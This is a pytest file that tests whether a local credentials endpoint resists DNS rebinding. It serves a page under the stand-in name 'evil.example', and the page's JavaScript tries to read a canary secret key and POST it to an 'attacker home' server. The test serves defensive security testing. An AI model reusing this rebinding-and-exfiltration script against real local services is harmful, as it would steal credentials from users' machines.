"""A page in a real browser that has come to be of the endpoint's own origin (DNS rebinding, T24) reads nothing."""

from __future__ import annotations

import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from assumed.jobs import endpoint as module
from assumed.jobs.endpoint import Endpoint
from world.scores import Record
from world.waiting import eventually

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
TOKEN, CANARY = "the-token-of-this-test", "CanarySecretAccessKey"
NAME = "evil.example"
"""The browser is told that this is 127.0.0.1: what the attacker's own name server would say the second time."""

PAGE = """<!doctype html><script>
const report = (what, read) => fetch('http://127.0.0.1:%(home)d/report', {method: 'POST', mode: 'no-cors',
  body: JSON.stringify({what, read})});
const tries = {
  'same origin': ['/role/a', {}],
  'with the token': ['/role/a', {headers: {Authorization: '%(token)s'}}],
  'across origins': ['http://127.0.0.1:%(port)d/role/a', {}],
  'across origins with the token': ['http://127.0.0.1:%(port)d/role/a', {headers: {Authorization: '%(token)s'}}],
  'opaque': ['http://127.0.0.1:%(port)d/role/a', {mode: 'no-cors'}],
};
(async () => {
  await report('loaded', '');
  // Until the name has come to mean somebody else: then the old page's server is gone.
  for (;;) {
    try { if ((await fetch('/who', {cache: 'no-store'})).status !== 200) break; } catch (e) {}
    await new Promise(done => setTimeout(done, 50));
  }
  for (const [what, [url, how]] of Object.entries(tries)) {
    let read = '';
    try { const answer = await fetch(url, {cache: 'no-store', ...how}); read = answer.status + await answer.text(); }
    catch (e) { read = 'refused: ' + e; }
    await report(what, read);
  }
  await report('done', '');
})();
</script>"""


class Attacker:
    """A web server of somebody else's: serves the page, and is told what it could read."""

    def __init__(self) -> None:
        self.page = ""
        self.reports: dict[str, str] = {}
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                body = attacker.page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Connection", "close")
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:
                told = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                attacker.reports[told["what"]] = told["read"]
                self.send_response(204)
                self.end_headers()

            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
                """Silent."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = int(self._server.server_address[1])
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True)
        self._thread.start()

    def close(self) -> None:
        if self._thread.is_alive():
            self._server.shutdown()
            self._thread.join()
            self._server.server_close()


@pytest.fixture
def servers() -> Iterator[tuple[Attacker, Attacker]]:
    """The server behind the page, and the attacker's home that the page reports to."""
    both = Attacker(), Attacker()
    yield both
    for server in both:
        server.close()


@pytest.mark.slow
@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed")
@pytest.mark.parametrize("guarded", [True, False])
def test_a_page_whose_name_has_come_to_mean_the_endpoint_reads_nothing(
    guarded: bool,
    servers: tuple[Attacker, Attacker],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    record: Record,
) -> None:
    """Not even one that knew the token. Without the guards it would: this page can do what it is meant to."""
    front, home = servers
    front.page = PAGE % {"home": home.port, "port": front.port, "token": TOKEN}
    assert CHROMIUM is not None
    options = ["--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"]
    options += ["--disable-component-update", "--disable-sync", "--disable-quic", f"--user-data-dir={tmp_path}/profile"]
    options += [f"--host-resolver-rules=MAP {NAME} 127.0.0.1", "--remote-debugging-port=0"]
    with (tmp_path / "browser.log").open("w") as log:
        browser = subprocess.Popen([CHROMIUM, *options, f"http://{NAME}:{front.port}/"], stdout=log, stderr=log)
    endpoint = None
    try:
        eventually(lambda: "loaded" in home.reports, 40, saying="the page")
        front.close()
        endpoint = Endpoint(TOKEN, lambda path: (200, {"SecretAccessKey": CANARY}), front.port)
        if not guarded:
            monkeypatch.setattr(endpoint, "_hosts", endpoint._hosts | {f"{NAME}:{front.port}".encode()})
            monkeypatch.setattr(module, "FOREIGN", ())
            monkeypatch.setattr(module, "FOREIGN_PREFIXES", ())
        endpoint.start()
        eventually(lambda: "done" in home.reports, 20, saying="what the page tried")
    finally:
        browser.terminate()
        browser.wait(20)
        if endpoint is not None:
            endpoint.close()
    assert len(home.reports) == 7
    leaked = [what for what, read in home.reports.items() if CANARY in read]
    if not guarded:
        assert leaked == ["with the token"]
        return
    record("endpoint.pages", 1)
    record("endpoint.leaked", len(leaked))
    assert not leaked, home.reports
    assert home.reports["same origin"].startswith("403")
    assert home.reports["with the token"].startswith("403")
